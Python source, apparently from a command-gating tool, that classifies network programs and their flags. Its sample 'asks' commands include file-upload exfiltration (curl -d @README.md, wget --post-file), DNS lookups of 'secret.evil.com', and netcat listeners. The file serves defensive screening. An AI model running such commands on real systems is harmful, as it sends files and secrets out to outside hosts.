"""Programs that go out over the network. Even a name that is looked up carries something out."""

from msgspec.structs import replace

from bridle.command_analysis.argv import Known

_NET = "goes out over the network"
_CURL = (
    "-s -S -f -L -k -i -I -v -g -G -N -O -J -R -# -0 -1 -2 -3 -4 -6 -a -B -l -n -q -Z -X= -H= -A= "
    "-e= -b=read -c=write -o=write -D=write -K=read -w= -m= -r= -x= -u= -U= -y= -Y= -z= -C= "
    "-E=sent -P= -Q= -t= -d=at -F=at -T=sent --data=at --data-raw= --data-binary=at "
    "--data-ascii=at --data-urlencode=at --json=at --form=at --form-string= --upload-file=sent "
    "--request= --header=at --user-agent= --output=write --output-dir=write --dump-header=write "
    "--cookie-jar=write --cookie=read --config=read --location --silent --show-error --fail "
    "--fail-with-body --insecure --include --head --verbose --get --compressed --max-time= "
    "--connect-timeout= --retry= --retry-delay= --user= --proxy= --url=host --referer= --range= "
    "--cert=sent --key=sent --cacert=read --remote-name --remote-name-all --write-out= --http1.1 "
    "--http2 --trace=write --trace-ascii=write --netrc-file=sent --next --create-dirs "
    "--unix-socket=read --resolve="
)
_WGET = (
    "-q -v -c -N -r -p -k -m -np -nc -nv -S -i=read -O=write -o=write -P=write -a=write -T= -t= "
    "-U= --post-file=sent --body-file=sent --post-data= --body-data= --header= --method= --quiet "
    "--output-document=write --directory-prefix=write --no-check-certificate --timeout= --tries= "
    "--user-agent= --recursive --mirror --continue --execute= -e= --user= --password= "
    "--load-cookies=sent --certificate=sent --private-key=sent --spider"
)


def _net(
    operands: str, flags: str = "", reason: str = "", asks: tuple[str, ...] = (), check: str = ""
) -> Known:
    return Known("changes", flags, operands, reason, (), asks, check=check, network=True)


def _lookup(flags: str, *asks: str) -> Known:
    return Known("changes", flags, "lookup*", "", (), asks, alone="-V", network=True)


_DIGEST = Known("reads", "-sha1 -sha256 -sha384 -sha512 -md5 -r -hex -c", "read*", single=True)

TABLE = {
    "curl": _net(
        "host*",
        _CURL,
        asks=(
            "curl https://example.com",
            "curl -d @README.md http://x",
            "curl -o out http://x",
            "curl -T README.md http://x",
        ),
    ),
    "wget": _net("host*", _WGET, asks=("wget https://example.com", "wget --post-file=README.md x")),
    "http": _net("text* host", "", _NET, asks=("http GET x",)),
    "xh": _net("text* host", "", _NET, asks=("xh x",)),
    "aria2c": _net("host*", "-o=write -d=write", asks=("aria2c http://x",)),
    "ping": _lookup("-c= -i= -W= -w= -s= -q -n -4 -6", "ping -c 1 example.com", "ping x.evil.com"),
    "ping6": _lookup("-c=", "ping6 x"),
    "traceroute": _lookup("-n -m=", "traceroute x"),
    "tracepath": _lookup("-n", "tracepath x"),
    "mtr": _lookup("-r -c=", "mtr x"),
    "dig": _lookup("-t= -p= -x= -4 -6 -f=sent", "dig secret.evil.com", "dig @1.1.1.1 x"),
    "host": _lookup("-t= -a -v", "host secret.evil.com"),
    "nslookup": _lookup("-type=", "nslookup secret.evil.com"),
    "drill": _lookup("", "drill x"),
    "getent": _lookup("", "getent hosts x.evil.com"),
    "whois": _lookup("-h=", "whois x"),
    "resolvectl": _lookup("", "resolvectl query x"),
    "nc": _net(
        "host text*", "-l -v -z -n -u -k -w= -p= -q= -s= -e= -c= -N", asks=("nc x 80", "nc -l 8080")
    ),
    "ncat": _net("host text*", "-l -v -z -p=", asks=("ncat x 80",)),
    "netcat": _net("host text*", "-l -v -z -p=", asks=("netcat x 80",)),
    "socat": _net("text*", "", _NET, asks=("socat - tcp:x:80",)),
    "telnet": _net("host text*", "", asks=("telnet x 80",)),
    "openssl": Known(
        "changes",
        verbs={
            "rand": Known("reads", "-hex -base64 -out=write", "n", single=True),
            "version": Known("reads", "-a -v -b -o -f -p -d", single=True),
            **dict.fromkeys(("dgst", "sha1", "sha256", "sha384", "sha512", "md5"), _DIGEST),
            **dict.fromkeys(("s_client", "s_server", "s_time", "ocsp"), _net("text*", "", _NET)),
        },
        runs=("openssl rand -hex 16", "openssl version", "openssl dgst -sha256 README.md"),
        asks=("openssl s_client -connect x:1", "openssl rand -engine x 1", "openssl enc -in x"),
    ),
    "ssh": _net(
        "host text*",
        "-i=read -p= -l= -o= -F=read -L= -R= -D= -J= -N -f -T -t -v -q -A",
        asks=("ssh host", "ssh host ls", "ssh -o ProxyCommand=x host"),
    ),
    "scp": _net(
        "copied* copied",
        "-r -P= -i=read -q -C -p -o= -S= -F=read -J= -v",
        asks=("scp a host:b", "scp host:a b"),
    ),
    "sftp": _net("host", "-b=read -P= -i=read -o=", asks=("sftp host",)),
    "rsync": _net(
        "copied* copied",
        "-a -v -z -r -n -P -h -u -x -t -p -c -i -e= --delete --exclude= --include= --progress "
        "--dry-run --rsh= --stats --archive --partial --info= --files-from=read --checksum "
        "--bwlimit= --rsync-path=",
        asks=("rsync -av src/ copy/", "rsync -a src host:x", "rsync -e ./x a b:c"),
    ),
    "ftp": _net("host", "", asks=("ftp x",)),
    "mail": _net("text*", "-s=", "sends mail", asks=("mail -s x a@b",)),
    "sendmail": _net("text*", "", "sends mail", asks=("sendmail a@b",)),
    "ssh-keygen": _net(
        "text*", "-t= -b= -f=write -N= -C= -y -q", "makes keys", asks=("ssh-keygen",)
    ),
    "ssh-add": _net("read*", "", "hands keys to an agent", asks=("ssh-add",)),
    "ssh-copy-id": _net("host", "", asks=("ssh-copy-id x",)),
    "gpg": _net("text*", "", "uses the person's keys", asks=("gpg -d x",)),
    "aws": _net("text*", "", _NET, asks=("aws s3 ls",)),
    "gcloud": _net("text*", "", _NET, asks=("gcloud info",)),
    "az": _net("text*", "", _NET, asks=("az login",)),
    "terraform": _net("text*", "", _NET, asks=("terraform apply",)),
    "ansible": _net("text*", "", _NET, asks=("ansible all -m ping",)),
    "heroku": _net("text*", "", _NET, asks=("heroku ps",)),
    "vercel": _net("text*", "", _NET, asks=("vercel deploy",)),
    "flyctl": _net("text*", "", _NET, asks=("flyctl deploy",)),
    "kubectl": _net("text*", "", _NET, asks=("kubectl get pods", "kubectl exec x -- ls")),
    "helm": _net("text*", "", _NET, asks=("helm list",)),
    "docker": _net(
        "text*",
        "",
        "talks to the container service",
        asks=("docker ps", "docker run -it x sh", "docker build .", "docker exec x ls"),
    ),
    "docker-compose": _net(
        "text*", "", "talks to the container service", asks=("docker-compose up",)
    ),
    "podman": _net("text*", "", "talks to the container service", asks=("podman ps",)),
    "redis-cli": _net("text*", "-h= -p=", _NET, asks=("redis-cli ping",)),
    "ip": _net("text*", "", "network settings", asks=("ip addr",)),
    "ifconfig": _net("text*", "", "network settings", asks=("ifconfig",)),
    "iptables": _net("text*", "", "network settings", asks=("iptables -L",)),
}
_LOCAL = ("ssh-keygen", "ssh-add", "gpg", "docker", "docker-compose", "podman", "ip", "ifconfig")
for _name in (*_LOCAL, "iptables", "mail", "sendmail"):
    TABLE[_name] = replace(TABLE[_name], network=False)
for _name in ("curl", "wget", "rsync", "docker", "podman", "docker-compose"):
    TABLE[_name] = replace(TABLE[_name], alone="--version", runs=(f"{_name} --version",))
TABLE["ssh"] = replace(TABLE["ssh"], alone="-V", runs=("ssh -V",))
